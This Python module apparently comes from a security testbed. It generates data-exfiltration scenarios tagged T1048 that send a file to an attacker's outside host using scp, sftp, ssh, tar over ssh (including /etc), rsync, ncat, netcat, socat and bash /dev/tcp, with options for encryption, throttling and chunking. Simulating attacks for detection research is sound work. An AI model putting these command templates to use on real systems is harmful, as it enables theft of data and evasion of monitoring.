"""Data that leave by SSH and over bare TCP."""

from testbed.attacks.exfiltration import PLAIN, pieces
from testbed.attacks.material import INSIDE, SSH, blob, drop, key_of, listening, maybe, pause, words
from testbed.attacks.tunnels_ssh import ssh_server
from testbed.catalogue import Assault, attack

ENCRYPTED = "T1048.002"


@attack(
    "exfil_ssh",
    technique=ENCRYPTED,
    tool="scp",
    origins=INSIDE,
    packages=("openssh-client", "openssh-server"),
    seconds=45,
)
def scp_away(c):
    return to_ssh(
        c,
        lambda options, port, where: words(
            "scp -q -P",
            port,
            options,
            maybe(c, 0.3, "-C"),
            maybe(c, 0.5, f"-l {c.between(800, 9000)}"),
            "taken",
            where + ":",
        ),
    )


@attack(
    "exfil_ssh",
    technique=ENCRYPTED,
    tool="sftp",
    origins=INSIDE,
    packages=("openssh-client", "openssh-server"),
    seconds=45,
)
def sftp_away(c):
    return to_ssh(c, lambda options, port, where: f"echo 'put taken' | sftp -q -P {port} {options} {where}")


@attack(
    "exfil_ssh",
    technique=ENCRYPTED,
    tool="ssh cat",
    origins=INSIDE,
    packages=("openssh-client", "openssh-server"),
    seconds=45,
)
def cat_away(c):
    return to_ssh(
        c,
        lambda options, port, where: f"for piece in $(seq {c.between(1, 4)}); do ssh -p {port} {options} {where}"
        f" 'cat > t$$' < taken; {pause(c.between(0.2, 2.0))}; done",
    )


@attack(
    "exfil_ssh",
    technique=ENCRYPTED,
    tool="tar over ssh",
    origins=INSIDE,
    packages=("openssh-client", "openssh-server"),
    seconds=45,
)
def tar_away(c):
    return to_ssh(
        c,
        lambda options, port, where: f"tar cz taken {c.choose('/etc/ssl', '/usr/share/doc/bash', '/etc')} 2>/dev/null |"
        f" ssh -p {port} {options} {where} 'cat > t.tgz'",
    )


@attack(
    "exfil_ssh",
    technique=ENCRYPTED,
    tool="rsync",
    origins=INSIDE,
    packages=("rsync", "openssh-client", "openssh-server"),
    seconds=45,
)
def rsync_away(c):
    limit = maybe(c, 0.5, f"--bwlimit={c.between(80, 1500)}")
    return to_ssh(c, lambda options, port, where: f"rsync -a {limit} -e 'ssh -p {port} {options}' taken {where}:loot/")


def to_ssh(c, send) -> Assault:
    """Sends the file `taken` to an SSH server of the attacker's; `send` makes the command of options, port, account."""
    (user, key), (port, server) = key_of(c), ssh_server(c)
    command = send(f"{SSH} {key}", port, f"{user.name}@{c.network.outside.address}")
    return Assault(
        f"{blob(c.typical(500_000, 0.8, 3_000_000))} > taken; {command}", **listening(server, c.network.outside)
    )


def bulk(c) -> int:
    return c.typical(250_000, 1.0, 1_500_000)


@attack("exfil_nc", technique=PLAIN, tool="ncat", origins=INSIDE, packages=("ncat",), seconds=35)
def ncat_away(c):
    end = drop(c, "tcp")
    send = f"timeout 12 ncat --send-only {end.address} {end.port}"
    return Assault(
        c.choose(f"{blob(bulk(c))} | {send}", pieces(c, f"head -c $size /dev/urandom | {send}")), **end.assault
    )


@attack("exfil_nc", technique=PLAIN, tool="ncat --ssl", origins=INSIDE, packages=("ncat", "openssl"), seconds=35)
def ncat_tls_away(c):
    end = drop(c, "tls")
    send = f"timeout 12 ncat --ssl --send-only {end.address} {end.port}"
    return Assault(
        c.choose(f"{blob(bulk(c))} | {send}", pieces(c, f"head -c $size /dev/urandom | {send}")), **end.assault
    )


@attack("exfil_nc", technique=PLAIN, tool="netcat", origins=INSIDE, packages=("netcat-openbsd",), seconds=35)
def netcat_away(c):
    end = drop(c, "tcp")
    encode = c.choose("cat", "gzip", "base64", "openssl enc -aes-256-cbc -pbkdf2 -k x")
    return Assault(f"{blob(bulk(c))} | {encode} | timeout 25 nc.openbsd -q1 {end.address} {end.port}", **end.assault)


@attack("exfil_nc", technique=PLAIN, tool="socat", origins=INSIDE, packages=("socat",), seconds=35)
def socat_away(c):
    end = drop(c, "tcp")
    return Assault(
        f"{blob(bulk(c))} | timeout 25 socat -u -b {c.choose(512, 1024, 8192)} - TCP:{end.address}:{end.port}",
        **end.assault,
    )


@attack("exfil_nc", technique=PLAIN, tool="bash", origins=INSIDE, seconds=60)
def bash_away(c):
    end = drop(c, "tcp")
    size = c.between(500, 6000)
    slow = (
        f"exec 3>/dev/tcp/{end.address}/{end.port}; for piece in $(seq {c.between(20, 90)}); do {blob(size)} >&3;"
        f" {pause(c.between(0.05, 0.6))}; done"
    )
    return Assault(c.choose(f"{blob(bulk(c))} > /dev/tcp/{end.address}/{end.port}", slow), **end.assault)
